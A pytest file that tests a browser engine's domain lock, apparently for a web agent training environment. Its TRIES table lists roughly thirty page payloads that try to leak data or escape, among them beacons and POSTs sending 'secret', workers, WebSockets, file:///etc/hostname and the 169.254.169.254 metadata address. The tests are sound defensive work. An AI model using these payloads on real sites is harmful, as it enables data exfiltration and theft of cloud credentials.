"""The domain lock: every way out of the sites of a task is closed, for embedded sites and for real deployments."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from urllib.parse import quote

import pytest
from werkzeug.serving import make_server

from tests.webrl_gym.engines.conftest import ROOT, make_engine, pages_app
from tests.webrl_gym.engines.hands import click, said, text_of, visit
from webrl_gym.engines.chromium import ChromiumEngine
from webrl_gym.errors import ActionError

pytestmark = pytest.mark.browser


class Place:
    """An engine and the root of the only site that it may visit."""

    def __init__(self, engine: ChromiumEngine, root: str) -> None:
        self.engine = engine
        self.root = root

    def show(self, source: str) -> None:
        self.engine.start([f"{self.root}/made?html={quote('<!DOCTYPE html><title>Inside</title>' + source)}"], [])


@pytest.fixture(scope="module")
def embedded() -> Iterator[Place]:
    engine = make_engine()
    yield Place(engine, ROOT)
    engine.close()


@pytest.fixture(scope="module")
def deployment() -> Iterator[Place]:
    server = make_server("127.0.0.1", 0, pages_app(), threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    root = f"http://127.0.0.1:{server.port}"
    # The second has nobody at its port; the outsider is at another one of the same host.
    engine = ChromiumEngine(None, origins=[root, "http://localhost"])
    yield Place(engine, root)
    engine.close()
    server.shutdown()
    server.server_close()


@pytest.fixture(params=["embedded", "deployment"])
def place(request: pytest.FixtureRequest) -> Place:
    """One of the two, each started once however the tests are shared out."""
    found: Place = request.getfixturevalue(request.param)
    return found


@pytest.mark.parametrize(
    "link", ["plain", "secure", "redirected", "window", "secure window", "data", "file", "scripted", "blob", "form"]
)
def test_clicks_lead_nowhere_else(place: Place, link: str) -> None:
    place.engine.start([f"{place.root}/page/ways_out.html"], [])
    with pytest.raises(ActionError, match="lies outside the sites of this task"):
        click(place.engine, link)
    page = place.engine.snapshot()
    assert (page.title, page.tabs) == ("Ways out", ("Ways out",))
    assert place.engine.blocked_navigations == 1


def test_links_within_the_site_work(place: Place) -> None:
    place.engine.start([f"{place.root}/page/controls.html"], [])
    assert click(place.engine, "Second page").url == f"{place.root}/page/second.html"


TRIES = {
    "image": "<img src='OUT'>",
    "script": "<script src='OUT'></script>",
    "style": "<style>@import 'OUT'; body { background: url(OUT) }</style>",
    "frame": "<iframe src='OUT'></iframe>",
    "frame by redirect": "<iframe src='/redirect?to=OUT'></iframe>",
    "frame in a frame": "<iframe srcdoc=\"<iframe src='OUT'></iframe>\"></iframe>",
    "object": "<object data='OUT'></object><embed src='OUT'>",
    "media": "<video src='OUT' autoplay></video><audio src='OUT' autoplay></audio>",
    "prefetch": "<link rel=prefetch href='OUT'><link rel=preload as=image href='OUT'><link rel=preconnect href='OUT'>",
    "fetch": "<script>fetch('OUT', {mode: 'no-cors', keepalive: true})</script>",
    "fetch by redirect": "<script>fetch('/redirect?to=OUT', {mode: 'no-cors'})</script>",
    "request": "<script>const r = new XMLHttpRequest(); r.open('POST', 'OUT'); r.send('secret')</script>",
    "beacon": "<script>navigator.sendBeacon('OUT', 'secret')</script>",
    "socket": "<script>new WebSocket('OUT'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('OUT')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT', {mode: 'no-cors'})\"])))</script>",
    "imported worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('OUT')\"])))</script>",
    "shared worker": "<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('OUT')\"])))</script>",
    "service worker": "<script>navigator.serviceWorker?.register('OUT').catch(() => 0)</script>",
    "refresh": "<meta http-equiv=refresh content='0; url=OUT'>",
    "refresh by redirect": "<meta http-equiv=refresh content='0; url=/redirect?to=OUT'>",
    "location": "<script>location = 'OUT'</script>",
    "data location": "<script>location = 'data:text/html,<title>Outside</title>'</script>",
    "blob location": "<script>location = URL.createObjectURL(new Blob(['<title>Outside</title>'], {type: 'text/html'}))"
    "</script>",
    "file location": "<script>location = 'file:///etc/hostname'</script>",
    "link-local": "<script>location = 'http://169.254.169.254/latest/meta-data/'</script>",
    "form": "<form action='OUT' method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "form to a window": "<form action='OUT' target=_blank></form><script>document.forms[0].submit()</script>",
    "window": "<script>open('OUT'); open('/redirect?to=OUT')</script>",
    "written window": "<script>const w = open('about:blank'); if (w) w.location = 'OUT'</script>",
    "parent of a frame": "<iframe srcdoc=\"<script>top.location = 'OUT'</script>\"></iframe>",
    "opened file": "<iframe src='file:///etc/hostname'></iframe>",
}


QUICK = ("image", "frame", "fetch", "socket", "worker", "refresh", "location", "form")
"""Ways that the fast tests try on a deployment too, one of each kind; the long ones try all.

``window`` waits for a window that never comes, so it is left to the long ones in both places.
"""
PLACES_AND_WAYS = [
    pytest.param(
        place, way, marks=() if (place == "embedded" and way != "window") or way in QUICK else pytest.mark.slow
    )
    for place in ("embedded", "deployment")
    for way in TRIES
]


@pytest.mark.parametrize(("place", "way"), PLACES_AND_WAYS, indirect=["place"])
def test_pages_reach_nothing_by_themselves(place: Place, outsider: Callable[[], tuple[int, int]], way: str) -> None:
    port, before = outsider()
    place.show("<p>still here</p>" + TRIES[way].replace("OUT", f"http://127.0.0.1:{port}/out"))
    page = place.engine.snapshot()
    assert (page.title, "still here" in text_of(page)) == ("Inside", True)
    assert outsider()[1] == before


def test_other_ports_of_a_host_are_out_of_bounds(deployment: Place, outsider: Callable[[], tuple[int, int]]) -> None:
    port, before = outsider()
    out = f"http://localhost:{port}/out"
    deployment.show("<p>still here</p>" + (TRIES["image"] + TRIES["socket"]).replace("OUT", out))
    assert "still here" in text_of(deployment.engine.snapshot())
    assert outsider()[1] == before


def test_peer_to_peer_connections_send_nothing(place: Place) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(1.5)
    stun = f"{{ iceServers: [{{ urls: 'stun:127.0.0.1:{listener.getsockname()[1]}' }}] }}"
    script = f"const c = new RTCPeerConnection({stun}); c.createDataChannel('x'); c.setLocalDescription()"
    place.show(f"<p>still here</p><script>{script}</script>")
    assert "still here" in text_of(place.engine.snapshot())
    with closing(listener), pytest.raises(TimeoutError):
        listener.recv(2_000)


def test_refused_frames_are_counted(place: Place) -> None:
    place.show("<iframe src='http://elsewhere.test/'></iframe><iframe src='https://elsewhere.test/'></iframe>")
    place.engine.snapshot()
    assert place.engine.blocked_navigations == 2


def test_a_refused_request_comes_to_an_end(place: Place, outsider: Callable[[], tuple[int, int]]) -> None:
    port, before = outsider()
    place.show(
        f"<p id=said></p><script>fetch('http://127.0.0.1:{port}/', {{mode: 'no-cors'}}).finally(() => {{"
        "said.textContent = 'tried' })</script>"
    )
    assert said(place.engine.snapshot()) == "tried"
    assert outsider()[1] == before


def test_an_allowed_window_opens(pages: ChromiumEngine) -> None:
    visit(pages, "ways_out")
    assert click(pages, "allowed window").title == "Second"
